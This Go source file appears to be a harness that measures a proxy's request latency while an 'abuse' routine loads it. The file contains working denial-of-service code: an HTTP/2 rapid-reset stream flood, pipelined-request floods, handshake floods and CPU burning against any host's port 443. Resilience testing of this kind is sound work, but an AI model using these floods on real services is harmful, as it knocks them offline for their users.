package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// pace asks host so many times as each line of input says, one after the other on one connection, and says how long the
// 50th and the 99th of a hundred took, in nanoseconds.
func pace(host string) {
	fmt.Println("ready")
	for in := bufio.NewScanner(os.Stdin); in.Scan(); {
		n, err := strconv.Atoi(in.Text())
		if err != nil {
			return
		}
		took := make([]time.Duration, n)
		for i := range took {
			began := time.Now()
			if err := fetch(host); err != nil {
				fmt.Println("error", err)
				return
			}
			took[i] = time.Since(began)
		}
		slices.Sort(took)
		fmt.Println(int64(took[n/2]), int64(took[n*99/100]))
	}
}

func fetch(host string) error {
	req, err := http.NewRequest("GET", "https://"+host+"/", nil)
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+os.Getenv("OPENAI_API_KEY"))
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err == nil && res.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %.200q", res.Status, body)
	}
	return err
}

// answer is an upstream: it says "ok" to all who ask its port, which it prints. Its certificate and key are in a file.
func answer(file string) {
	cert, err := tls.LoadX509KeyPair(file, file)
	if err != nil {
		fmt.Println(err)
		return
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(l.Addr().(*net.TCPAddr).Port)
	s := http.Server{
		Handler:   http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") }),
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}, ErrorLog: log.New(io.Discard, "", 0),
	}
	fmt.Println(s.ServeTLS(l, "", ""))
}

// abuse keeps its processors and its proxy as busy as it can while the last line of input was "on".
func abuse(host string) {
	var on atomic.Bool
	change := sync.NewCond(new(sync.Mutex))
	for _, attack := range []func(string){resets, requests, handshakes, burn} {
		go func() {
			for {
				change.L.Lock()
				for !on.Load() {
					change.Wait()
				}
				change.L.Unlock()
				attack(host)
			}
		}()
	}
	fmt.Println("ready")
	for in := bufio.NewScanner(os.Stdin); in.Scan(); {
		on.Store(in.Text() == "on")
		change.Broadcast()
		fmt.Println(in.Text())
	}
}

// slice is how long an attack goes on before it looks whether it still should.
const slice = 50 * time.Millisecond

func connect(host, proto string) *tls.Conn {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	d := tls.Dialer{Config: &tls.Config{ServerName: host, NextProtos: []string{proto}}}
	c, err := d.DialContext(ctx, "tcp", net.JoinHostPort(host, "443"))
	if err != nil {
		return nil
	}
	c.SetDeadline(time.Now().Add(slice))
	return c.(*tls.Conn)
}

// resets opens streams and resets them until the connection ends.
func resets(host string) {
	c := connect(host, "h2")
	if c == nil {
		return
	}
	defer c.Close()
	go io.Copy(io.Discard, c)
	w := bufio.NewWriterSize(c, 16<<10)
	io.WriteString(w, http2.ClientPreface)
	fr := http2.NewFramer(w, nil)
	fr.WriteSettings()
	var block strings.Builder
	for id := uint32(1); ; id += 2 {
		block.Reset()
		enc := hpack.NewEncoder(&block)
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", "/"}} {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(block.String()), EndStream: true, EndHeaders: true})
		if fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// requests pipelines requests that are refused.
func requests(host string) {
	c := connect(host, "http/1.1")
	if c == nil {
		return
	}
	defer c.Close()
	go io.Copy(io.Discard, c)
	many := strings.Repeat("GET / HTTP/1.1\r\nHost: "+host+"\r\nAuthorization: Bearer mine\r\n\r\n", 100)
	for {
		if _, err := io.WriteString(c, many); err != nil {
			return
		}
	}
}

// handshakes makes connections and does nothing with them.
func handshakes(host string) {
	if c := connect(host, "http/1.1"); c != nil {
		c.Close()
	}
}

func burn(string) {
	for began := time.Now(); time.Since(began) < slice; {
	}
}
